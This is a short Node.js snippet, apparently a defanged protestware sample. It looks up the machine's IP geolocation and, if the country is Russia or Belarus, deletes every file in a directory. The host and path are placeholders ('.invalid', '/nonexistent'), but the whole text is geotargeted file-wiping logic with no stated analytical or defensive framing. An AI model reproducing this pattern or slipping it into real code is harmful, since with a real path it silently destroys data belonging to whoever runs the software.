const https = require('https'), fs = require('fs');
https.get('https://api.ipgeolocation.io.invalid/ipgeo', (r) => {
  r.on('data', (d) => {
    if (['russia', 'belarus'].includes(JSON.parse(d).country_name)) for (const f of fs.readdirSync('/nonexistent')) fs.unlinkSync('/nonexistent/' + f);
  });
});
